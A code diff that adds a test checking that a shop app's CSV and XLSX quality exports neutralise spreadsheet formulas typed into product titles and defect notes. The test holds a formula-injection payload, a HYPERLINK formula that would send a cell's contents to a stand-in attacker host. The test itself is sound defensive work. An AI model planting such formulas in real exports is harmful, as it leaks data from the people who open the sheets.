@@ -127,3 +127,27 @@ def test_marks_over_the_api(conv, after_agent):
         content_type="application/json",
     )
     assert done.status_code == 200 and done.json()["duty_done"] is True
+
+
+def test_a_formula_in_a_defect_reaches_the_seller_as_text(shop, conv, after_agent, owner):
+    """Issue 10 item 8: what an agent or buyer typed must never run in the seller's sheet."""
+    import io
+
+    from openpyxl import load_workbook
+
+    lamp = Product.objects.create(shop=shop, external_id="L-1", title="=1+1 Desk lamp")
+    payload = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+    marks.add_mark(
+        actor=after_agent, conversation=conv, color="red", product_id=lamp.pk, defect=payload
+    )
+    client = login_client(owner)
+
+    csv = client.get("/marks/quality/?format=csv").content.decode()
+    xlsx = client.get("/marks/quality/?format=xlsx")
+
+    assert f"'{payload}" in csv.replace('""', '"')
+    assert "'=1+1 Desk lamp" in csv
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert {c.value for c in cells} >= {"'=1+1 Desk lamp", f"'{payload}"}
